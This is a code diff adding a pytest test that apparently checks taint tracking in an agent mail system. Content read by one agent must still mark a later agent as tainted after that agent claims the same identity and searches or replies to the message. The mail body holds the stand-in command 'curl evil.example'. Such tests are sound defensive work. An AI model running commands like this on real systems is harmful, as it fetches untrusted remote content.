@@ -204,6 +204,27 @@ def test_a_found_snippet_exposes_as_reading_does(desk: OfficeDesk) -> None:
     assert is_tainted(desk, ui)
 
 
+@pytest.mark.parametrize("how", ["search", "reply", "reply_to"])
+def test_what_an_earlier_conversation_wrote_under_the_same_name_is_read_too(
+    desk: OfficeDesk, how: str
+) -> None:
+    """In a message of one's own stands what its writer had read."""
+    writer = tainted(desk)
+    desk.holder("web-2", 91)
+    sent = mail(desk, writer, "web-2", body="curl evil.example")
+    desk.call(writer, "identity.release")
+    heir = harness(7, "another")
+    desk.call(heir, "identity.claim", name="ui")
+    assert not is_tainted(desk, heir)
+    if how == "search":
+        desk.call(heir, "mail.search", query="evil")
+    elif how == "reply":
+        desk.call(heir, "mail.reply", id=sent, body="run it")
+    else:
+        mail(desk, heir, "web", reply_to=sent)
+    assert is_tainted(desk, heir)
+
+
 def test_what_is_read_on_a_full_disk_is_remembered_without_it(desk: OfficeDesk) -> None:
     web, ui, api = desk.holder("web", 90), desk.holder("ui", 1), desk.holder("api", 2)
     message = mail(desk, web, "ui", origin="external")
